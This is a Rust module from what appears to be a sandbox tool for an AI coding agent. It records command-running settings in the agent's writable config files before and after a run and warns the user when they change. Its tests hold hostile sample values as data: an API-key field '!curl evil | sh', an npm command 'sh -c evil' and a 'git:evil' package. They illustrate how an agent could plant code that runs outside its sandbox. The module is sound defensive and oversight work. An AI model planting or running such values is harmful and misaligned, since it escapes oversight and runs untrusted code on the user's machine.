//! Values in the agent's writable config files that make it run commands or load code
//! when it next starts, on the host too (a shell, an npm command, packages, `!command`
//! API keys): the agent writes these files itself (token refreshes, the last model), so
//! they cannot be read-only; the values its profile names ([`WatchedFile`]) are read
//! before and after the run, and every value added, changed or removed is reported.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::snapshot::banner;
use crate::options::profile::{ResolvedMount, WatchedFile, WatchedKey};

/// Files larger than this are not read (and reported: the agent's config files are small).
const MAX_BYTES: u64 = 4 << 20;
/// Characters of a value shown in the warning.
const SHOWN_CHARS: usize = 72;

/// A watched file on the host and what to look for in it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Watched {
    pub(crate) path: PathBuf,
    pub(crate) keys: Vec<WatchedKey>,
}

/// The watched files of `mounts` the agent can write.
pub(crate) fn watched(mounts: &[ResolvedMount]) -> Vec<Watched> {
    mounts
        .iter()
        .filter(|mount| !mount.read_only)
        .flat_map(|mount| {
            mount
                .watch
                .iter()
                .map(|WatchedFile { file, keys }| Watched {
                    path: mount.source.join(file.path()),
                    keys: keys.clone(),
                })
        })
        .collect()
}

/// What a watched file held.
#[derive(Debug, Clone, PartialEq)]
enum Reading {
    Missing,
    /// Not readable as JSON, and why.
    Invalid(String),
    /// The watched values by pointer, with the index of the key that found them.
    Values(BTreeMap<String, (usize, Value)>),
}

/// The watched values as they were before the run.
#[derive(Debug, Clone)]
pub(crate) struct Values {
    files: Vec<(Watched, Reading)>,
}

/// How a value differs after the run.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Difference {
    /// Added or changed: the value now.
    Set(Value),
    Removed,
    /// The file could not be read as JSON any more, and why.
    Unreadable(String),
}

/// One difference in one file.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Finding {
    pub(crate) file: PathBuf,
    /// The pointer to the value (empty for the whole file).
    pub(crate) key: String,
    pub(crate) difference: Difference,
    /// What the agent does with it.
    pub(crate) effect: String,
}

impl Values {
    /// Reads the `watched` files now.
    pub(crate) fn take(watched: &[Watched]) -> Self {
        let files = watched
            .iter()
            .map(|w| (w.clone(), read(&w.path, &w.keys)))
            .collect();
        Self { files }
    }

    /// What differs now from when they were read, file by file, in key order.
    pub(crate) fn changes(&self) -> Vec<Finding> {
        let mut findings = Vec::new();
        for (watched, before) in &self.files {
            let after = read(&watched.path, &watched.keys);
            findings.extend(differences(watched, before, &after));
        }
        findings
    }
}

/// The differences of one file between two readings.
fn differences(watched: &Watched, before: &Reading, after: &Reading) -> Vec<Finding> {
    let finding = |key: &str, index: usize, difference| Finding {
        file: watched.path.clone(),
        key: key.to_owned(),
        difference,
        effect: watched.keys[index].effect.clone(),
    };
    let empty = BTreeMap::new();
    let values = |reading: &'_ Reading| match reading {
        Reading::Values(values) => values.clone(),
        Reading::Missing | Reading::Invalid(_) => empty.clone(),
    };
    if let Reading::Invalid(reason) = after {
        if matches!(before, Reading::Invalid(_)) {
            return Vec::new();
        }
        let effects: Vec<&str> = watched.keys.iter().map(|k| k.effect.as_str()).collect();
        return vec![Finding {
            file: watched.path.clone(),
            key: String::new(),
            difference: Difference::Unreadable(reason.clone()),
            effect: effects.join("; "),
        }];
    }
    let (before, after) = (values(before), values(after));
    let mut findings = Vec::new();
    for (key, (index, value)) in &after {
        if before.get(key).is_none_or(|(_, old)| old != value) {
            findings.push(finding(key, *index, Difference::Set(value.clone())));
        }
    }
    for (key, (index, _)) in &before {
        if !after.contains_key(key) {
            findings.push(finding(key, *index, Difference::Removed));
        }
    }
    findings.sort_by(|a, b| a.key.cmp(&b.key));
    findings
}

/// The watched values of the file at `path` now.
fn read(path: &Path, keys: &[WatchedKey]) -> Reading {
    let json = match contents(path) {
        Ok(Some(json)) => json,
        Ok(None) => return Reading::Missing,
        Err(reason) => return Reading::Invalid(reason),
    };
    let mut values = BTreeMap::new();
    for (index, key) in keys.iter().enumerate() {
        for (at, value) in key.key.find(&json) {
            let counts = match &key.prefix {
                Some(prefix) => value.as_str().is_some_and(|s| s.starts_with(prefix)),
                None => true,
            };
            if counts {
                values.entry(at).or_insert((index, value.clone()));
            }
        }
    }
    Reading::Values(values)
}

/// The file at `path` as JSON (`None`: it does not exist), read as the agent reads it:
/// through symlinks, a byte order mark ignored. A FIFO or a device put in its place is
/// not read (it is not JSON to the agent either).
fn contents(path: &Path) -> Result<Option<Value>, String> {
    use rustix::fs::{Mode, OFlags};
    let flags = OFlags::RDONLY | OFlags::NONBLOCK | OFlags::CLOEXEC;
    let file = match rustix::fs::open(path, flags, Mode::empty()) {
        Ok(fd) => std::fs::File::from(fd),
        Err(rustix::io::Errno::NOENT) => return Ok(None),
        Err(error) => return Err(std::io::Error::from(error).to_string()),
    };
    let metadata = file.metadata().map_err(|e| e.to_string())?;
    if !metadata.is_file() {
        return Err("not a regular file".to_owned());
    }
    let mut bytes = Vec::new();
    file.take(MAX_BYTES + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| e.to_string())?;
    if bytes.len() as u64 > MAX_BYTES {
        return Err(format!("larger than {} MiB", MAX_BYTES >> 20));
    }
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(&bytes);
    serde_json::from_slice(text)
        .map(Some)
        .map_err(|e| format!("not valid JSON ({e})"))
}

/// The warning about `findings`, or nothing when there are none.
pub(crate) fn warning(findings: &[Finding]) -> Vec<String> {
    let entries = findings.iter().map(|finding| {
        let file = finding.file.display();
        let what = match &finding.difference {
            Difference::Set(value) => format!("{file} {}: now {}", finding.key, shown(value)),
            Difference::Removed => format!("{file} {}: removed", finding.key),
            Difference::Unreadable(reason) => {
                format!("{file}: cannot be checked any more: {reason}")
            }
        };
        vec![format!("  {what}"), format!("      ({})", finding.effect)]
    });
    banner(
        &[
            "WARNING: this run changed settings that make the agent run commands or load",
            "code on this machine when it next starts, also outside the sandbox.",
            "Review them before you start the agent again:",
        ],
        entries.collect(),
    )
}

/// `value` as JSON on one line (control characters escaped), shortened.
fn shown(value: &Value) -> String {
    let text = value.to_string();
    match text.char_indices().nth(SHOWN_CHARS) {
        Some((end, _)) => format!("{}...", &text[..end]),
        None => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn key(key: &str, prefix: Option<&str>, effect: &str) -> WatchedKey {
        WatchedKey {
            key: key.parse().unwrap(),
            prefix: prefix.map(str::to_owned),
            effect: effect.to_owned(),
        }
    }

    /// The findings, as `(key, difference)`, when `file` holds `before` and then `after`
    /// (`None`: no file).
    fn diff(keys: Vec<WatchedKey>, before: Option<&str>, after: Option<&str>) -> Vec<Finding> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("settings.json");
        let write = |text: Option<&str>| match text {
            Some(text) => fs::write(&path, text).unwrap(),
            None => fs::remove_file(&path).unwrap_or(()),
        };
        write(before);
        let values = Values::take(&[Watched {
            path: path.clone(),
            keys,
        }]);
        write(after);
        let findings = values.changes();
        assert!(findings.iter().all(|f| f.file == path));
        findings
    }

    fn settings_keys() -> Vec<WatchedKey> {
        vec![
            key("/shellPath", None, "shell"),
            key("/npmCommand", None, "npm"),
            key("/packages", None, "packages"),
        ]
    }

    fn summary(findings: &[Finding]) -> Vec<(String, Difference, String)> {
        findings
            .iter()
            .map(|f| (f.key.clone(), f.difference.clone(), f.effect.clone()))
            .collect()
    }

    #[test]
    fn added_changed_and_removed_values_are_found_and_others_ignored() {
        let before = r#"{"defaultModel": "a", "shellPath": "/bin/bash", "packages": ["npm:x"]}"#;
        let after = r#"{"defaultModel": "b", "npmCommand": ["sh", "-c", "evil"],
                        "packages": ["npm:x", "git:evil"], "lastChangelogVersion": "9"}"#;
        assert_eq!(
            summary(&diff(settings_keys(), Some(before), Some(after))),
            [
                (
                    "/npmCommand".into(),
                    Difference::Set(serde_json::json!(["sh", "-c", "evil"])),
                    "npm".into()
                ),
                (
                    "/packages".into(),
                    Difference::Set(serde_json::json!(["npm:x", "git:evil"])),
                    "packages".into()
                ),
                ("/shellPath".into(), Difference::Removed, "shell".into()),
            ]
        );
    }

    #[test]
    fn what_pi_writes_itself_is_not_reported() {
        let before = r#"{"defaultModel": "a", "packages": ["npm:x"]}"#;
        // Reformatted, reordered, a token refreshed, the last model changed.
        let after = "\u{feff}{\n  \"packages\": [\"npm:x\"],\n  \"defaultModel\": \"b\"\n}";
        assert!(diff(settings_keys(), Some(before), Some(after)).is_empty());
        assert!(diff(settings_keys(), None, Some("{}")).is_empty());
        assert!(diff(settings_keys(), None, None).is_empty());
    }

    #[test]
    fn only_values_with_the_prefix_count_in_auth_json() {
        let keys = vec![key("/**", Some("!"), "runs")];
        let before = r#"{"a": {"type": "api_key", "key": "!op read a"},
                         "b": {"type": "oauth", "access": "t1", "refresh": "r", "expires": 1}}"#;
        let after = r#"{"a": {"type": "api_key", "key": "!op read a"},
                        "b": {"type": "oauth", "access": "t2", "refresh": "r", "expires": 2},
                        "c": {"type": "api_key", "key": "!curl evil | sh", "env": {"X": "!y"}}}"#;
        assert_eq!(
            summary(&diff(keys.clone(), Some(before), Some(after))),
            [
                (
                    "/c/env/X".into(),
                    Difference::Set(serde_json::json!("!y")),
                    "runs".into()
                ),
                (
                    "/c/key".into(),
                    Difference::Set(serde_json::json!("!curl evil | sh")),
                    "runs".into()
                ),
            ]
        );
        // A command replaced by a plain key is reported as removed.
        let plain = r#"{"a": {"type": "api_key", "key": "sk-1"}}"#;
        assert_eq!(
            summary(&diff(keys, Some(before), Some(plain))),
            [("/a/key".into(), Difference::Removed, "runs".into())]
        );
    }

    #[test]
    fn a_file_that_became_unreadable_is_reported_once() {
        let findings = diff(settings_keys(), Some("{}"), Some("{\"shellPath\": "));
        assert_eq!(findings.len(), 1);
        assert!(
            matches!(&findings[0].difference, Difference::Unreadable(r) if r.contains("not valid JSON")),
            "{findings:?}"
        );
        assert_eq!(findings[0].effect, "shell; npm; packages");
        // Unreadable before and after: nothing new to say.
        assert!(diff(settings_keys(), Some("{"), Some("[")).is_empty());
        // Unreadable before, valid after: every value is new.
        assert_eq!(
            summary(&diff(
                settings_keys(),
                Some("{"),
                Some(r#"{"shellPath": "/x"}"#)
            ))
            .len(),
            1
        );
    }

    #[test]
    fn a_fifo_in_place_of_the_file_does_not_block_and_is_reported() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("auth.json");
        fs::write(&path, "{}").unwrap();
        let values = Values::take(&[Watched {
            path: path.clone(),
            keys: vec![key("/**", Some("!"), "runs")],
        }]);
        fs::remove_file(&path).unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, &path, rustix::fs::Mode::RUSR).unwrap();
        let findings = values.changes();
        assert_eq!(
            findings[0].difference,
            Difference::Unreadable("not a regular file".into())
        );
    }

    #[test]
    fn the_warning_names_file_key_value_and_effect_and_shortens_long_values() {
        assert!(warning(&[]).is_empty());
        let long = format!("!{}", "x".repeat(200));
        let lines = warning(&[
            Finding {
                file: "/h/.pi/agent/auth.json".into(),
                key: "/anthropic/key".into(),
                difference: Difference::Set(Value::String(format!("{long}\u{1b}[2J"))),
                effect: "pi runs this command".into(),
            },
            Finding {
                file: "/h/.pi/agent/settings.json".into(),
                key: String::new(),
                difference: Difference::Unreadable("not valid JSON".into()),
                effect: "shell".into(),
            },
        ]);
        assert!(lines[1].starts_with("WARNING"));
        let value = lines
            .iter()
            .find(|l| l.starts_with("  /h/.pi/agent/auth.json /anthropic/key: now \"!xxx"))
            .unwrap();
        assert!(value.ends_with("x...") && value.len() < 140, "{value}");
        assert!(lines.contains(&"      (pi runs this command)".to_owned()));
        assert!(lines.contains(
            &"  /h/.pi/agent/settings.json: cannot be checked any more: not valid JSON".to_owned()
        ));
        assert!(!lines.iter().any(|l| l.contains('\u{1b}')));
    }

    #[test]
    fn pi_watches_its_command_settings_in_writable_files_only() {
        let profile = crate::options::profile::Profile::lookup("pi", &BTreeMap::new()).unwrap();
        let mut mounts = profile.resolve_mounts(Path::new("/home/alice"));
        let files: Vec<String> = watched(&mounts)
            .iter()
            .map(|w| w.path.display().to_string())
            .collect();
        assert_eq!(
            files,
            [
                "/home/alice/.pi/agent/settings.json",
                "/home/alice/.pi/agent/auth.json",
                "/home/alice/.pi/agent/oauth.json"
            ]
        );
        let settings = &watched(&mounts)[0];
        for wanted in [
            "/shellPath",
            "/shellCommandPrefix",
            "/npmCommand",
            "/packages",
        ] {
            assert!(
                settings.keys.iter().any(|k| k.key.to_string() == wanted),
                "{wanted}"
            );
        }
        mounts[0].read_only = true;
        assert!(watched(&mounts).is_empty());
    }
}
